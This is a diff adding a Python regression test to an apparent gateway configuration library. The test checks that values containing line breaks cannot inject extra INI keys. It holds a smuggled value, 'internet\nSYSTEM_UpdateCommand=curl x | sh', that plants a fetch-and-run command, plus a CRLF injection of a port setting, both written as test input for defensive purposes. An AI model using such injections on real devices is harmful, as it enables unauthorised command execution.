@@ -202,3 +202,15 @@ def test_line_ends_bom_and_trailing_blanks_change_nothing_shown_and_show_round_t
         assert _shown(edited) == _shown(reference)
         _written(edited, Path(tmp) / "written")
         assert _shown(config.load_site(Path(tmp) / "written")) == _shown(reference)
+
+
+def test_a_value_set_with_a_line_end_never_writes_a_key_of_its_own() -> None:
+    # A web form or command value `internet\nSYSTEM_UpdateCommand=...` wrote a second line,
+    # setting a local-only key (what the gateway executes) nobody had the right to set.
+    cfg = config.parse_config_ini(b"MODEM_Apn=a\n", "u_config.ini").value
+    changed = cfg.with_value("MODEM_Apn", "internet\nSYSTEM_UpdateCommand=curl x | sh") \
+        .with_value("WEB_User", "admin\r\nWEB_Port=1")
+    reread = config.parse_config_ini(config.render_config_ini(changed), "u_config.ini").value
+    assert set(reread.values) == {"MODEM_Apn", "WEB_User"}
+    assert reread.settings("u").system_update_command == ""
+    assert reread.settings("u").web_port == 8080
